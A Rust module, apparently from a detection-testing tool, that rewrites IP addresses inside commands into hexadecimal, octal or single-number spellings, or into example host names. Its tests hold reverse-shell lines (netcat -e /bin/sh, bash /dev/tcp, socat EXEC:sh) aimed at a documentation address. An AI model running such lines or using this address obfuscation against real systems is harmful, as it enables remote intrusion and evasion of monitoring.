//! Another spelling of an address: `10.1.2.3` as `167838211`, `0x0a010203`, `012.1.2.3`.
//!
//! Only where a host is expected: after `//`, in `/dev/tcp/`, in a call that connects, as an argument of a program that does.
//! The standard's parser of URLs reads the same address from both, as the C library does.

use std::cell::LazyCell;
use std::net::Ipv4Addr;
use std::ops::Range;

use ringtrue_core::random::Random;

use super::super::{minutes, random::one_of};
use super::line::Line;
use super::programs::name_of;
use super::trick::{TAXONOMY, Trick};
use crate::artefact::{Declaration, Material, Verified};

pub(super) static SPELLED: Trick = Trick {
    declaration: &Declaration {
        name: "address-spelling",
        meaning: "writes an address as one number, in hexadecimal or octal",
        minutes: minutes::SCRIPTED,
        verified: Verified::Parse,
        needs: "",
        taxonomy: TAXONOMY,
    },
    change: spelled,
};

pub(super) static NAMED: Trick = Trick {
    declaration: &Declaration {
        name: "domain-for-address",
        meaning: "writes a host name that leads to the address in its place",
        minutes: minutes::OWN_NAME,
        verified: Verified::Assumed,
        needs: "a domain of the attacker's, and name resolution on the host",
        taxonomy: TAXONOMY,
    },
    change: named,
};

/// What stands right before a host.
const BEFORE: &[&str] = &[
    "://",
    "/dev/tcp/",
    "/dev/udp/",
    "tcp:",
    "TCP:",
    "tcp-connect:",
    "TCP-CONNECT:",
    "tcp4:",
    "TCP4:",
    "connect((\"",
    "connect(('",
    "connect((\\\"",
    "inet_aton(\"",
    "TCPSocket.new(\"",
    "TCPSocket.new('",
    "TCPSocket.open(\"",
    "fsockopen(\"",
    "fsockopen('",
    "@",
];

/// Programs that take a host among their arguments.
const CONNECTING: &[&str] = &[
    "curl",
    "nc",
    "nc.traditional",
    "nc.openbsd",
    "ncat",
    "netcat",
    "ping",
    "ssh",
    "telnet",
    "wget",
];

fn spelled(text: &str, _: &Material, random: &mut Random) -> Option<String> {
    let (at, address) = one_of(hosts(text), random)?;
    let number = u32::from(address);
    let [a, b, c, d] = address.octets();
    let written = match random.below(5) {
        0 => number.to_string(),
        1 => format!("{number:#010x}"),
        2 => format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        3 => format!("{a:#x}.{b:#x}.{c:#x}.{d:#x}"),
        _ => format!("{a}.{}", number & 0x00ff_ffff),
    };
    with(text, &at, &written)
}

fn named(text: &str, _: &Material, random: &mut Random) -> Option<String> {
    let (at, _) = one_of(hosts(text), random)?;
    // Second-level names that are reserved for examples: no changed command leads anywhere.
    let first = *random.pick(&[
        "cdn", "api", "static", "mirror", "packages", "assets", "updates", "repo",
    ])?;
    let domain = *random.pick(&["example.com", "example.net", "example.org"])?;
    with(text, &at, &format!("{first}{}.{domain}", random.below(90)))
}

fn with(text: &str, at: &Range<usize>, new: &str) -> Option<String> {
    Some(format!(
        "{}{new}{}",
        text.get(..at.start)?,
        text.get(at.end..)?
    ))
}

/// Returns the addresses that stand where a host is expected, with their places.
fn hosts(text: &str) -> Vec<(Range<usize>, Ipv4Addr)> {
    // Few lines hold an address, and most of those hold it behind a mark.
    let line = LazyCell::new(|| Line::read(text));
    let mut found: Vec<(Range<usize>, Ipv4Addr)> = numbers(text).collect();
    found.retain(|(at, _)| {
        let before = text.get(..at.start).unwrap_or("");
        let is_argument = || line.as_ref().is_some_and(|line| is_host_argument(line, at));
        BEFORE.iter().any(|mark| before.ends_with(mark)) || is_argument()
    });
    found
}

/// Returns whether a whole word is an argument of a program that connects.
fn is_host_argument(line: &Line<'_>, at: &Range<usize>) -> bool {
    let within = line
        .rewritable()
        .find(|statement| (statement.start..statement.end).contains(&at.start));
    within.is_some_and(|statement| {
        statement.arguments().any(|word| word.at == *at)
            && line
                .program(statement)
                .is_some_and(|program| CONNECTING.contains(&name_of(program)))
    })
}

/// Returns the addresses of four decimal numbers that stand alone.
fn numbers(text: &str) -> impl Iterator<Item = (Range<usize>, Ipv4Addr)> {
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
    let bytes = text.as_bytes();
    let starts = (0..bytes.len()).filter(move |at| {
        bytes[*at].is_ascii_digit()
            && !at
                .checked_sub(1)
                .is_some_and(|before| is_part(bytes[before]))
    });
    starts.filter_map(move |start| {
        let length = bytes[start..]
            .iter()
            .position(|byte| !is_part(*byte))
            .unwrap_or(bytes.len() - start);
        let end = start + length;
        Some((start..end, text.get(start..end)?.parse().ok()?))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_hosts_are_found() {
        let check = |text: &str, expected: usize| assert_eq!(hosts(text).len(), expected, "{text}");
        check("wget http://192.0.2.7:81/x", 1);
        check("nc -e /bin/sh 192.0.2.7 4444", 1);
        check("bash -i >& /dev/tcp/192.0.2.7/53 0>&1", 1);
        check("python3 -c 's.connect((\"192.0.2.7\",443))'", 1);
        check("socat tcp:192.0.2.7:1 EXEC:sh", 1);
        check("echo 192.0.2.7", 0);
        check("grep 192.0.2.7 /var/log/x", 0);
        check("tool-192.0.2.7 x", 0);
    }

    #[test]
    fn another_spelling_is_the_same_address() {
        let text = "curl http://192.0.2.7/x";
        let mut spellings = std::collections::BTreeSet::new();
        for seed in 0..64 {
            let changed = spelled(text, &Material::default(), &mut Random::new(seed)).unwrap();
            let host = changed
                .strip_prefix("curl http://")
                .unwrap()
                .strip_suffix("/x")
                .unwrap();
            assert_eq!(
                url::Host::parse(host).unwrap(),
                url::Host::<String>::Ipv4(Ipv4Addr::new(192, 0, 2, 7)),
                "{changed}"
            );
            spellings.insert(host.to_owned());
        }
        assert_eq!(spellings.len(), 5);
    }
}
